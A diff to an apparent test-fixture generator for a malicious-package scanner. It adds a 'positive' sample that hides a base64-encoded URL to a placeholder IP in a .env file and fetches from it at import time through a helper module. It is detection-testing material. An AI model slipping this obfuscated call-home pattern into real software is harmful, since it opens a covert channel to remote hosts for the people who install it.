@@ -126,6 +126,20 @@ app.listen(3000, async () => {
 module.exports = { app, Client };
 ''')
 
+w('import-time-network/positive/cross-file-helper/package.json', json.dumps({"name":"fixture-cross-file","version":"1.0.0","main":"app.js","scripts":{"start":"node app.js"}},indent=2)+'\n')
+w('import-time-network/positive/cross-file-helper/.env', f'SYNC_URL={b64("http://198.51.100.12:1224/api/checkStatus")}\n')
+w('import-time-network/positive/cross-file-helper/app.js', '''const { syncSettings } = require("./services/settings");
+syncSettings();
+module.exports = {};
+''')
+w('import-time-network/positive/cross-file-helper/services/settings.js', '''const axios = require("axios");
+async function syncSettings() {
+  const { data } = await axios.get(Buffer.from(process.env.SYNC_URL, "base64").toString());
+  return data;
+}
+module.exports = { syncSettings };
+''')
+
 # ---- env-exfiltration
 w('env-exfiltration/positive/env-post/src/telemetry.js', '''const axios = require("axios");
 async function report() {
